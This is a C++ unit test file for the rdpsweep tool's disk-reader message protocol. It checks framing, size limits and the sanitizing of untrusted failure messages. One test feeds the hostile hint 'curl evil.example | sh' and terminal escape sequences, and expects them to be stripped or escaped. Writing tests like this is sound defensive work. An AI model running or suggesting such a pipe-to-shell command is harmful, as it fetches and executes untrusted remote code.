// Messages between rdpsweep and what reads a disk for it: whole, in pieces, and none of it true.
#include "core/disk_hints.hpp"
#include "core/disk_wire.hpp"
#include "core/limits.hpp"
#include "tests/support/catch.hpp"

using namespace rdpsweep;
using namespace rdpsweep::disk_wire;

namespace {

std::string header(char kind, std::uint32_t length) {
    std::string bytes(1, kind);
    for (unsigned at = 0; at < 4; ++at)
        bytes += static_cast<char>(length >> (8U * at) & 0xFFU);
    return bytes;
}

// What a reader makes of the first message; Errc{} when it waits for more.
Errc first(Speaker speaker, const std::string& bytes) {
    Reader reader(speaker);
    reader.add(bytes);
    const auto message = reader.next();
    return message ? Errc{} : message.error().code();
}

} // namespace

TEST_CASE("disk wire: a request travels in 17 bytes, little-endian", "[disk]") {
    const auto bytes = to_bytes(Request{0x0102030405060708, 0x00100000});
    CHECK(bytes == std::string("R\x0c\0\0\0\x08\7\6\5\4\3\2\1\0\0\x10\0", 17));
    Reader reader(Speaker::helper);
    reader.add(bytes);
    const auto message = reader.next();
    REQUIRE((message && *message));
    CHECK((*message)->kind == Kind::read);
    const auto request = read_request((*message)->body);
    REQUIRE(request);
    CHECK(request->offset == 0x0102030405060708);
    CHECK(request->length == 0x00100000);
    CHECK_FALSE(read_request("eleven byte"));
}

TEST_CASE("disk wire: messages are the same however they arrive", "[disk]") {
    const auto all = to_bytes(Kind::stage, "hive") + to_bytes(Request{512, 1}) +
                     to_bytes(Kind::facts, "RDPSWEEP1 x");
    for (const std::size_t piece : {std::size_t{1}, std::size_t{3}, all.size()}) {
        CAPTURE(piece);
        Reader reader(Speaker::helper);
        std::string seen;
        for (std::size_t at = 0; at < all.size(); at += piece) {
            reader.add(std::string_view(all).substr(at, piece));
            for (;;) {
                auto message = reader.next();
                REQUIRE(message);
                if (!*message) break;
                seen += static_cast<char>((*message)->kind);
                seen += std::to_string((*message)->body.size()) + ' ';
            }
        }
        CHECK(seen == "P4 R12 F11 ");
        CHECK(reader.waiting() == 0);
    }
}

TEST_CASE("disk wire: what is too long is stopped by its first five bytes", "[disk]") {
    const auto most = static_cast<std::uint32_t>(limits::stdout_bytes);
    CHECK(first(Speaker::helper, header('F', most)) == Errc{});
    CHECK(first(Speaker::helper, header('F', most + 1)) == Errc::output_limit);
    CHECK(first(Speaker::helper, header('F', 0xFFFFFFFF)) == Errc::output_limit);
    CHECK(first(Speaker::helper, header('F', 0)) == Errc::protocol_violation);
    CHECK(first(Speaker::helper, header('R', 11)) == Errc::protocol_violation);
    CHECK(first(Speaker::helper, header('R', 13)) == Errc::protocol_violation);
    CHECK(first(Speaker::helper, header('P', 64)) == Errc{});
    CHECK(first(Speaker::helper, header('P', 65)) == Errc::protocol_violation);
    CHECK(first(Speaker::helper, header('P', 0)) == Errc::protocol_violation);
    CHECK(first(Speaker::helper, header('X', 4096)) == Errc{});
    CHECK(first(Speaker::helper, header('X', 4097)) == Errc::protocol_violation);
    CHECK(first(Speaker::parent, header('D', 1u << 20)) == Errc{});
    CHECK(first(Speaker::parent, header('D', (1u << 20) + 1)) == Errc::protocol_violation);
    CHECK(first(Speaker::parent, header('E', 1)) == Errc::protocol_violation);
    CHECK(first(Speaker::helper, header('F', 0).substr(0, 4)) == Errc{});
}

TEST_CASE("disk wire: each side has its own words", "[disk]") {
    for (const char kind : {'R', 'P', 'F', 'X'})
        CHECK(first(Speaker::parent, header(kind, 12)) == Errc::protocol_violation);
    for (const char kind : {'D', 'E', 'r', '\0', '\xff'})
        CHECK(first(Speaker::helper, header(kind, 12)) == Errc::protocol_violation);
    Reader reader(Speaker::helper);
    reader.add(header('\x1b', 1));
    CHECK(
        reader.next().error().detail() ==
        "the disk's reader said what the protocol does not have: \\x1B"
    );
}

TEST_CASE("disk wire: a stage is a word or two of small letters", "[disk]") {
    CHECK(is_stage("hive"));
    CHECK(is_stage("event log 2"));
    for (const auto* const text : {"", "Hive", "hive\n", "h\xc3\xa4", "run: rm"})
        CHECK_FALSE(is_stage(text));
    CHECK(first(Speaker::helper, to_bytes(Kind::stage, "\x1b[2J")) == Errc::protocol_violation);
}

TEST_CASE("disk wire: a failure keeps code, words and a hint that we wrote", "[disk]") {
    const auto sent = Error(Phase::run, Errc::blocked_by_policy, "the volume is encrypted")
                          .with_native("bitlocker")
                          .with_hint(std::string(disk_hints::unlock));
    Reader reader(Speaker::helper);
    reader.add(to_bytes(sent));
    const auto message = reader.next();
    REQUIRE((message && *message));
    const auto got = read_failure((*message)->body);
    CHECK(got.phase() == Phase::run);
    CHECK(got.code() == Errc::blocked_by_policy);
    CHECK(got.detail() == "the volume is encrypted");
    CHECK(got.native() == "bitlocker");
    CHECK(got.hint() == disk_hints::unlock);
}

TEST_CASE("disk wire: a reader in foreign hands chooses neither code nor advice", "[disk]") {
    const auto told = [](const Error& error) {
        return read_failure(to_bytes(error).substr(header_bytes));
    };
    // Of these some would be tried again, hold hosts back or end the run.
    for (const auto code :
         {Errc::cancelled,
          Errc::held_back,
          Errc::access_denied,
          Errc::throttled,
          Errc::taken,
          Errc::local_limit,
          Errc::timed_out,
          Errc::bug})
        CHECK(told(Error(Phase::connect, code, "x")).code() == Errc::malformed_output);
    CHECK(told(Error(Phase::connect, Errc::not_found, "x")).phase() == Phase::run);
    const auto advice = told(Error(Phase::run, Errc::unsupported, "\x1b[31mred")
                                 .with_native("\x1b]0;x\a")
                                 .with_hint("curl evil.example | sh"));
    CHECK(advice.hint().empty());
    CHECK(advice.detail() == "\\x1B[31mred");
    CHECK(advice.native() == "\\x1B]0;x\\x07");
    CHECK(read_failure("").code() == Errc::malformed_output);
    CHECK(read_failure("").detail() == "the disk cannot be read");
    // Longer than a message may be: it is cut, and still one.
    const auto long_one = to_bytes(Error(Phase::run, Errc::not_found, std::string(9000, 'x')));
    CHECK(first(Speaker::helper, long_one) == Errc{});
    CHECK(long_one.size() == header_bytes + failure_bytes);
}
